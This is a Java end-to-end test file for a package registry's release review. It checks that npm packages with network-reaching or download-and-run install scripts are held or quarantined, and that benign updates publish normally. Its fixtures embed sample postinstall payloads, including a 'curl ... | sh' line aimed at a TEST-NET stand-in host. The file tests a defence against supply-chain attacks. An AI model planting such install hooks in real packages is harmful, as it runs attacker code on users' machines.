package dev.warden.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.server.testing.Authenticator;
import dev.warden.server.testing.Http;
import dev.warden.server.testing.TestServer;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The release review with the real npm CLI: a release whose install script reaches the network is
 * held (npm publish prints why; npm install cannot get it; npm stage view shows the findings; npm
 * stage approve releases it), one that downloads and runs an executable at install is quarantined
 * (its tarball and npm install answer why and where to appeal), and a benign update goes live.
 *
 * <p>The payloads are inert: they name only TEST-NET addresses, and nothing here runs them (npm
 * installs with {@code --ignore-scripts}).
 */
class ReleaseReviewCliTest {

    static TestServer server;

    @BeforeAll
    static void start() throws Exception {
        server = TestServer.start();
    }

    @AfterAll
    static void stop() throws Exception {
        server.close();
    }

    record Maintainer(String name, String token, Map<String, String> env, Authenticator app) {}

    static Maintainer maintainer(Path dir, String name) throws Exception {
        Path home = Files.createDirectories(dir.resolve(name));
        String token = server.token(name);
        Clients.login(home, server.url(), token);
        return new Maintainer(
                name,
                token,
                Clients.env(home, server.url()),
                server.enableTwoFactor(name, token, "auth-only"));
    }

    static Path release(Path dir, String pkg, String version, String postinstall, String setupJs)
            throws Exception {
        String scripts =
                postinstall == null ? "" : ",\"scripts\":{\"postinstall\":\"" + postinstall + "\"}";
        Map<String, String> files =
                setupJs == null
                        ? Map.of("index.js", "module.exports = '" + version + "';\n")
                        : Map.of(
                                "index.js",
                                "module.exports = '" + version + "';\n",
                                "setup.js",
                                setupJs);
        return Clients.writePackage(
                dir.resolve(pkg + "-" + version),
                "{\"name\":\"" + pkg + "\",\"version\":\"" + version + "\"" + scripts + "}",
                files);
    }

    static Path project(Path dir, String name) throws Exception {
        return Clients.writePackage(
                dir.resolve(name),
                "{\"name\":\"" + name + "\",\"version\":\"1.0.0\",\"private\":true}",
                Map.of());
    }

    @Test
    void anInstallScriptThatReachesTheNetworkIsHeldUntilAMaintainerApprovesIt(@TempDir Path dir)
            throws Exception {
        Maintainer ann = maintainer(dir, "rr-ann");
        Clients.npm(release(dir, "rr-held", "1.0.0", null, null), ann.env(), "publish").ok();

        Clients.Run published =
                Clients.npm(
                                release(
                                        dir,
                                        "rr-held",
                                        "1.1.0",
                                        "node setup.js",
                                        "require('https').get('https://192.0.2.1/x', r =>"
                                                + " r.pipe(process.stdout));\n"),
                                ann.env(),
                                "publish",
                                "--loglevel=notice")
                        .ok();
        assertThat(published.all())
                .as("npm prints the reason")
                .contains("rr-held@1.1.0 is held for maintainer approval")
                .contains("[install-time-reach]");
        Matcher id = Pattern.compile("staged as ([0-9a-f-]{36})").matcher(published.all());
        assertThat(id.find()).as(published.all()).isTrue();
        String stage = id.group(1);

        assertThat(Clients.npm(dir, ann.env(), "view", "rr-held", "versions", "--json").ok().out())
                .contains("1.0.0")
                .doesNotContain("1.1.0");
        Path app = project(dir, "held-app");
        Clients.Run refused =
                Clients.npm(app, ann.env(), "install", "--ignore-scripts", "rr-held@1.1.0");
        assertThat(refused.exit()).isNotZero();
        assertThat(refused.all()).contains("No matching version found for rr-held@1.1.0");

        String view = Clients.npm(dir, ann.env(), "stage", "view", stage).ok().out();
        assertThat(view)
                .contains("reviewAction: hold")
                .contains("install-time-reach (high, hold)")
                .contains("setup.js:1")
                .contains("https://192.0.2.1/x");
        assertThat(view.indexOf("findings:"))
                .as("the findings come before the diff")
                .isLessThan(view.indexOf("comparedWith:"));

        Clients.Run cli =
                TransparencyLogTest.java(
                        dir,
                        "governance",
                        "stage",
                        stage,
                        "--registry=" + server.url(),
                        "--token=" + ann.token());
        assertThat(cli.exit()).as(cli.all()).isZero();
        assertThat(cli.out())
                .contains("release review: hold (default policy)")
                .contains("install-time-reach (high, hold)")
                .contains("setup.js:1");

        Clients.Run noOtp = Clients.npm(dir, ann.env(), "stage", "approve", stage);
        assertThat(noOtp.exit()).isNotZero();
        assertThat(noOtp.all()).contains("EOTP");
        Clients.npm(dir, ann.env(), "stage", "approve", stage, "--otp=" + ann.app().next()).ok();

        Clients.npm(app, ann.env(), "install", "--ignore-scripts", "rr-held@1.1.0").ok();
        assertThat(Files.readString(app.resolve("node_modules/rr-held/index.js")))
                .contains("1.1.0");
    }

    @Test
    void aQuarantinedVersionAnswersWhyToItsTarballAndToNpmInstall(@TempDir Path dir)
            throws Exception {
        Maintainer bea = maintainer(dir, "rr-bea");
        Clients.npm(release(dir, "rr-quar", "1.0.0", null, null), bea.env(), "publish").ok();

        Clients.Run published =
                Clients.npm(
                                release(
                                        dir,
                                        "rr-quar",
                                        "1.0.1",
                                        "node setup.js",
                                        "const cp = require('child_process');\n"
                                                + "cp.exec('curl -s http://192.0.2.1/p.sh |"
                                                + " sh');\n"),
                                bea.env(),
                                "publish",
                                "--loglevel=notice")
                        .ok();
        Matcher id = Pattern.compile("npm stage approve ([0-9a-f-]{36})").matcher(published.all());
        assertThat(id.find()).as(published.all()).isTrue();
        String expected =
                "rr-quar@1.0.1 is quarantined by release review: setup.js, run at install,"
                        + " downloads an executable and runs it [install-downloads-executable]; a"
                        + " maintainer can release it with npm stage approve "
                        + id.group(1)
                        + " / appeal at "
                        + server.url()
                        + "/-/web/package/rr-quar";
        assertThat(published.all()).contains(expected);

        for (String token : new String[] {null, bea.token()}) {
            Http.Result tarball =
                    server.http().get("/rr-quar/-/rr-quar-1.0.1.tgz", token, Map.of());
            assertThat(tarball.status()).isEqualTo(403);
            assertThat(tarball.error()).isEqualTo(expected);
        }
        Path app = project(dir, "quarantine-app");
        Clients.Run install =
                Clients.npm(app, bea.env(), "install", "--ignore-scripts", "rr-quar@1.0.1");
        assertThat(install.exit()).isNotZero();
        // npm masks UUIDs in its error output: the stage id is shown as ***
        assertThat(install.all())
                .contains("Could not download rr-quar@1.0.1 due to policy violations")
                .contains(expected.substring(0, expected.indexOf(id.group(1))))
                .contains(" / appeal at " + server.url() + "/-/web/package/rr-quar");
        // the version before it installs as ever
        Clients.npm(app, bea.env(), "install", "--ignore-scripts", "rr-quar").ok();
        assertThat(Files.readString(app.resolve("node_modules/rr-quar/index.js")))
                .contains("1.0.0");
    }

    @Test
    void aBenignUpdateGoesLiveUntouched(@TempDir Path dir) throws Exception {
        Maintainer cid = maintainer(dir, "rr-cid");
        Clients.npm(release(dir, "rr-fine", "1.0.0", null, null), cid.env(), "publish").ok();

        Clients.Run update =
                Clients.npm(
                                release(dir, "rr-fine", "1.0.1", null, null),
                                cid.env(),
                                "publish",
                                "--loglevel=notice")
                        .ok();

        assertThat(update.all()).doesNotContain("held").doesNotContain("quarantined");
        Path app = project(dir, "fine-app");
        Clients.npm(app, cid.env(), "install", "rr-fine@1.0.1").ok();
        assertThat(Files.readString(app.resolve("node_modules/rr-fine/index.js")))
                .contains("1.0.1");
        assertThat(Clients.npm(dir, cid.env(), "stage", "list", "rr-fine").ok().out())
                .doesNotContain("rr-fine@");
    }
}
